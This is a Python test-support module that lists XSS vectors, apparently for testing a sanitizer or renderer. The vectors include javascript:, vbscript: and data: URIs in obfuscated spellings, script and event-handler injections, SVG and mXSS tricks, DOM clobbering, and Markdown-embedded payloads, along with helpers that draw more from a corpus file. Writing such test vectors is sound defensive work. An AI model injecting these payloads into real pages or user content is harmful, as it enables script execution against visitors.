"""Texts that want a reader's browser to run something: some of our own, and those of the corpus."""

from __future__ import annotations

import json
from collections.abc import Sequence

from tests.programs import ROOT

_CORPUS = ROOT.parent / "shared" / "corpora" / "hostile" / "xss" / "vectors.jsonl"

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript://e.org/%0aalert(1)",
    "javascript:123/alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:http://e.org/alert(1)",
    "filesystem:http://e.org/temporary/x.html",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/x.html",
    "//e.org/x",
    "\\\\e.org\\x",
    "/\\e.org/x",
    "http:e.org/x",
    "https://e.org/x?y=\"onmouseover=alert(1) z='",
    "https://e.org/' onclick='alert(1)",
    "https://e.org/><script>alert(1)</script>",
    "file:///etc/hostname",
    "http://e.org/\N{RIGHT-TO-LEFT OVERRIDE}cod.exe",
)
"""Spellings of addresses under which something other than a page of the web may be opened."""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script src=//e.org/x.js></script>",
    "<script type=module>import 'https://e.org/x.js'</script>",
    '<script type="application/ld+json">{"a":"</script><script>alert(1)</script>"}</script>',
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></template></noscript><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://e.org/t.gif><img srcset='//e.org/a 1x, //e.org/b 2x'>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/></svg>",  # noqa: E501
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src=//e.org/></iframe>",
    "<object data=//e.org/x></object><embed src=//e.org/x>",
    "<base href=//e.org/><a href=x>a</a><img src=y.png>",
    "<link rel=stylesheet href=//e.org/x.css><link rel=preload as=image href=//e.org/x>",
    "<link rel=prefetch href=//e.org/x><link rel=icon href=//e.org/i.png><link rel=manifest href=//e.org/m>",
    "<style>@import '//e.org/x.css'; body { background: url(//e.org/t.gif) }</style>",
    "<p style='background:url(//e.org/t.gif)'>a</p><table background=//e.org/t.gif><tr><td>a</table>",
    "<video poster=//e.org/p src=//e.org/v autoplay><source onerror=alert(1) src=//e.org/w></video>",
    "<audio src=//e.org/a autoplay></audio><track src=//e.org/t>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>alert(1)</script>",  # noqa: E501
    "<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)></form>",
    "<form id=f action=//e.org/></form><button form=f formaction=javascript:alert(1)>b</button>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<div popover id=p onbeforetoggle=alert(1)>a</div><button popovertarget=p>b</button>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<p id=x style='animation:a' onanimationstart=alert(1)>a</p><style>@keyframes a{}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>--><![CDATA[><img src=x onerror=alert(1)>]]><?x ><svg onload=alert(1)>?>",
    "<a href=# onclick=alert(1) ping=//e.org/ target=_blank>a</a>",
    "<img name=getElementById><form name=body><input name=cookie></form><a id=location href=//e.org/>a</a>",
    "\"'><svg onload=alert(1)>",
    "' onmouseover=alert(1) autofocus tabindex=1 onfocus=alert(1) x='",
    "`${alert(1)}`",
    "\u2028alert(1)\u2029//</script>",
    "__proto__",
    "constructor",
    "[a](javascript:alert(1)) ![b](javascript:alert(1)) <javascript:alert(1)> [c]\n\n[c]: javascript:alert(1)",  # noqa: E501
    '[a](https://e.org/"onclick="alert(1)) ![x" onerror="alert(1)](https://e.org/t.gif)',
    "# a {onclick=alert(1)}\n\nb\n{: style='x' onclick='alert(1)' }",
    '```c" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '*[HTML]: x" onclick="alert(1)\n\nHTML',
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | [c](vbscript:x) |",
)

OWN = (*_TAGS, *(f'<a href="{each}">a</a>' for each in ADDRESSES))
"""Vectors made for this project."""


def vectors(count: int) -> tuple[str, ...]:
    """Return so many vectors: our own, then as many from all over the corpus, where it is there."""
    found = _corpus()
    wanted = max(count - len(OWN), 0)
    return (*OWN, *_spread(found, wanted))[:count]


def _spread(found: Sequence[str], wanted: int) -> tuple[str, ...]:
    """Return so many of some texts, as far apart as they can be."""
    if wanted >= len(found):
        return tuple(found)
    return tuple(found[each * len(found) // wanted] for each in range(wanted))


def _corpus() -> tuple[str, ...]:
    if not _CORPUS.is_file():
        return ()
    return tuple(json.loads(line)["html"] for line in _CORPUS.read_text("utf-8").splitlines())
